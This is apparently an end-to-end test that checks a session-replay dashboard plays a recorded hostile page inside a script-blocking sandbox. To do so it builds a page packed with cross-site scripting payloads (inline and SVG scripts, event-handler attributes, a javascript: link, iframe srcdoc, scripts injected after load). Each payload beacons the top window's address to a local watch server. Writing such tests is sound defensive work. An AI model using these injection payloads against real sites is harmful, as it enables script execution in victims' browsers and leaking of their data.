import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { createClient } from '@connectrpc/connect';
import { createConnectTransport } from '@connectrpc/connect-node';
import { eventually } from '@gosight/common/test-infra';
import { ProjectService } from '@gosight/proto/v1/project_service_pb';
import { SessionService } from '@gosight/proto/v1/session_service_pb';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type FixtureServer, startFixtureServer } from '../../sdk/test/fixture-server.ts';
import { type E2eStack, startE2eStack } from './stack';

// Recorded page content cannot run script in the dashboard. A page carrying
// the SDK and hostile markup (inline and SVG scripts, onerror/onload/on*
// handlers, javascript: links, an iframe srcdoc with a script, script added
// after load) is recorded; the dashboard then plays it. Every payload calls a
// watch server with the top window's address and sets top.__pwned: calls from
// the recorded page itself are expected, none may come from the dashboard.

let stack: E2eStack;
let watch: Server;
let fixture: FixtureServer;
const hits: { path: string; top: string }[] = [];

function hostilePage(watchUrl: string): string {
  const call = (tag: string) =>
    `var t;try{t=top.location.href}catch(e){t='unreadable top, at '+location.href}fetch('${watchUrl}/${tag}?top='+encodeURIComponent(t),{mode:'no-cors'}).catch(function(){});try{top.__pwned='${tag}'}catch(e){}`;
  const attr = (tag: string) => call(tag).replace(/'/g, '&#39;');
  return `
    <h1 id="title">Hostile page</h1>
    <script>${call('inline-script')}</script>
    <img id="bad-img" src="/missing.png" onerror="${attr('img-onerror')}">
    <svg width="10" height="10" onload="${attr('svg-onload')}"><script>${call('svg-script')}</script></svg>
    <a id="js-link" href="javascript:${attr('javascript-link')}">a javascript: link</a>
    <iframe id="inner" srcdoc="<script>${attr('srcdoc-script')}</script>"></iframe>
    <div id="hover" style="width:300px;height:80px" onmouseover="${attr('onmouseover')}" onclick="${attr('onclick')}">hover</div>
    <input id="focus" autofocus onfocus="${attr('onfocus')}">
    <details open ontoggle="${attr('ontoggle')}"><summary>details</summary></details>
    <script>
      setTimeout(function () {
        var box = document.createElement('div');
        box.innerHTML = '<img src="/missing-too.png" onerror="${attr('mutation-onerror')}">';
        document.body.appendChild(box);
        var s = document.createElement('script');
        s.textContent = "${call('mutation-script').replace(/"/g, '\\"')}";
        document.body.appendChild(s);
      }, 200);
    </script>`;
}

beforeAll(async () => {
  watch = createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://watch');
    hits.push({ path: url.pathname, top: url.searchParams.get('top') ?? '' });
    response.writeHead(204, { 'access-control-allow-origin': '*' }).end();
  });
  await new Promise<void>((resolve) => watch.listen(0, '127.0.0.1', resolve));
  const watchUrl = `http://127.0.0.1:${(watch.address() as AddressInfo).port}`;
  stack = await startE2eStack('sandbox', 18600);
  const transport = createConnectTransport({ baseUrl: stack.services.urls.api, httpVersion: '1.1' });
  const headers = { authorization: `Bearer ${await stack.apiToken('owner')}` };
  const { key: writeKey } = await createClient(ProjectService, transport).createWriteKey(
    { projectId: stack.projectId, label: 'hostile page' },
    { headers },
  );
  fixture = await startFixtureServer(
    { '/hostile': hostilePage(watchUrl) },
    { projectKey: writeKey!.key, endpoint: stack.services.urls.ingestor },
  );
  const context = await stack.browser.newContext({ viewport: { width: 1280, height: 800 } });
  const visitor = await context.newPage();
  await visitor.goto(`${fixture.url}/hostile`);
  await visitor.hover('#hover');
  await visitor.click('#hover');
  await visitor.waitForTimeout(1500);
  await visitor.close({ runBeforeUnload: true });
  await context.close();
  const sessions = createClient(SessionService, transport);
  await eventually(
    async () => {
      const listed = await sessions.listSessions({ projectId: stack.projectId }, { headers });
      return listed.sessions.some((s) => s.hasReplay) || undefined;
    },
    60_000,
    'the hostile session with its replay',
  );
}, 240_000);

afterAll(async () => {
  await fixture?.close();
  await stack?.stop();
  watch?.close();
});

it('plays the hostile recording without running any of its scripts', async () => {
  const recorded = hits.filter((hit) => hit.top.startsWith(fixture.url)).map((hit) => hit.path);
  // The payloads do run in the recorded page itself, so the test page is sound.
  expect(recorded).toEqual(expect.arrayContaining(['/inline-script', '/img-onerror', '/mutation-script']));
  hits.length = 0;

  const page = await stack.signedInPage('owner');
  await page.goto(`${stack.services.urls.dashboard}/projects/${stack.projectId}/sessions`);
  await page.getByRole('row').nth(1).getByRole('link').first().click();
  const player = page.getByTestId('replay-player');
  const iframe = player.locator('iframe');
  await iframe.waitFor({ state: 'attached' });
  const sandbox = await iframe.getAttribute('sandbox');
  expect(sandbox).not.toBeNull();
  expect(sandbox).not.toContain('allow-scripts');
  // Play the whole recording (mutations included), then try the link and the handlers.
  await page
    .locator('.rr-controller__btns button')
    .first()
    .click()
    .catch(() => undefined);
  await page.waitForTimeout(4000);
  const replayed = page.frameLocator('[data-testid="replay-player"] iframe');
  await replayed.locator('#title').waitFor({ state: 'attached' });
  await replayed
    .locator('#js-link')
    .click({ force: true, timeout: 2000 })
    .catch(() => undefined);
  await replayed
    .locator('#hover')
    .hover({ force: true, timeout: 2000 })
    .catch(() => undefined);
  await page.waitForTimeout(1000);
  await stack.screenshot(page, 'e2e-replay-sandbox');
  // What of the hostile markup reached the player's DOM (the sandbox is what stops it).
  const reached = await replayed.locator('body').evaluate((body) => ({
    scripts: body.ownerDocument.querySelectorAll('script').length,
    onerror: body.querySelector('#bad-img')?.getAttribute('onerror') !== null,
    jsLink: body.querySelector('#js-link')?.getAttribute('href') ?? null,
    srcdoc: body.querySelector('#inner')?.hasAttribute('srcdoc') ?? false,
  }));
  console.log(`replay sandbox: sandbox="${sandbox}", reached the player: ${JSON.stringify(reached)}`);

  expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(hits.filter((hit) => !hit.top.startsWith(fixture.url))).toEqual([]);
}, 120_000);
